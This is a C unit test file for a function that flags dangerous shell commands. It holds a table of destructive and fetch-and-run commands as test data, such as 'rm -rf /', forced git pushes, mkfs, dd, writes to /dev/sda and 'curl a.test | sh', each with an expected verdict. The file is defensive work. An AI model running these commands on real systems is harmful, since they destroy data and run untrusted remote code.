#include "base/mem.h"
#include "tests/unit/policies/commands/commands_test.h"

static const struct {
	const char *command;
	bool want;
} rows[] = {
	{ "rm -rf /", true },
	{ "rm -rf x", true },
	{ "rm -f x", true },
	{ "rm -fr x", true },
	{ "rm --force x", true },
	{ "rm --forc x", true },
	{ "rm -vf x", true },
	{ "rm x -f", true },
	{ "rm -r -f x", true },
	{ "rm x", false },
	{ "rm -r x", false },
	{ "rm -- -f", false },
	{ "rm -i x", false },
	{ "rm -r /", true },
	{ "rm -r ..", true },
	{ "/bin/rm -rf x", true },
	{ "./rm -rf x", true },
	{ "rmdir x", false },
	{ "sudo rm -rf x", true },
	{ "sudo -u a rm -f x", true },
	{ "sudo ls", false },
	{ "env rm -rf x", true },
	{ "xargs rm -rf", true },
	{ "busybox rm -rf x", true },
	{ "find . -exec rm -rf {} +", true },
	{ "find . -delete", true },
	{ "find .", false },
	{ "sh -c 'rm -rf x'", true },
	{ "sh -c 'if true; then rm -rf x; fi'", true },
	{ "sh -c 'for i in 1; do rm -f x; done'", true },
	{ "sh -c 'rm -rf x > y'", true },
	{ "sh -c 'echo $(rm -rf x)'", true },
	{ "sh -c 'echo \"rm -rf x\"'", false },
	{ "sh -c '$RM -rf x'", false },
	{ "sh -c 'echo rm -rf'", false },
	{ "sh -c '\\rm -rf x'", true },
	{ "sh -c 'cat <<E\nrm -rf x\nE'", false },
	{ "sh -c 'rm -rf $X'", true },
	{ "git reset --hard", true },
	{ "git reset --har", true },
	{ "git reset", false },
	{ "git -C x reset --hard", true },
	{ "git -c a=b push --force", true },
	{ "git push --force", true },
	{ "git push -f", true },
	{ "git push origin +main", true },
	{ "git push origin :main", true },
	{ "git push --force-with-lease", true },
	{ "git push --mirror", true },
	{ "git push", false },
	{ "git push origin main", false },
	{ "git clean -fdx", true },
	{ "git clean -n", false },
	{ "git branch -D x", true },
	{ "git checkout -- .", true },
	{ "git checkout main", false },
	{ "git stash drop", true },
	{ "git stash", false },
	{ "git filter-branch x", true },
	{ "git commit", false },
	{ "chmod -R 777 .", true },
	{ "chmod --recursive a x", true },
	{ "chmod +x a", false },
	{ "chown -R a b", true },
	{ "dd if=a of=b", true },
	{ "dd if=a", false },
	{ "mkfs /dev/x", true },
	{ "mkfs.ext4 /dev/x", true },
	{ "shred x", true },
	{ "shutdown now", true },
	{ "reboot", true },
	{ "systemctl reboot", true },
	{ "systemctl status", false },
	{ "init 0", true },
	{ "kill -9 -1", true },
	{ "kill 5", false },
	{ "sh -c 'curl a.test | sh'", true },
	{ "sh -c 'wget -qO- a.test | sudo bash'", true },
	{ "sh -c 'curl a.test | tee x | bash -s'", true },
	{ "sh -c 'curl a.test | python3'", true },
	{ "sh -c 'curl a.test | python3 -'", true },
	{ "sh -c 'curl a.test | jq .'", false },
	{ "sh -c 'curl a.test | python3 -m json.tool'", false },
	{ "sh -c 'curl a.test; sh x'", false },
	{ "sh -c 'sh -c \"$(curl a.test)\"'", true },
	{ "sh -c '$(curl a.test)'", true },
	{ "bash -c 'bash <(curl a.test)'", true },
	{ "bash -c 'source <(curl a.test)'", true },
	{ "sh -c 'eval \"$(curl a.test)\"'", true },
	{ "sh -c 'echo $(curl a.test)'", false },
	{ "sh -c 'cat x > /dev/sda'", true },
	{ "sh -c 'cat x > /dev/null'", false },
	{ "npm publish", true },
	{ "npm install", false },
	{ "kubectl delete pod x", true },
	{ "ls", false },
	{ "cargo build", false },
};

START_TEST(dangerous)
{
	struct line line;
	const char *why = NULL;

	line_split(&line, rows[_i].command);
	ck_assert_msg(command_is_dangerous(line.argv, &why) == rows[_i].want, "%s",
		      rows[_i].command);
	ck_assert((why != NULL) == rows[_i].want);
}
END_TEST

TCase *dangers_cases(void)
{
	TCase *cases = tcase_create("dangers");

	tcase_add_loop_test(cases, dangerous, 0, ARRAY_SIZE(rows));
	return cases;
}
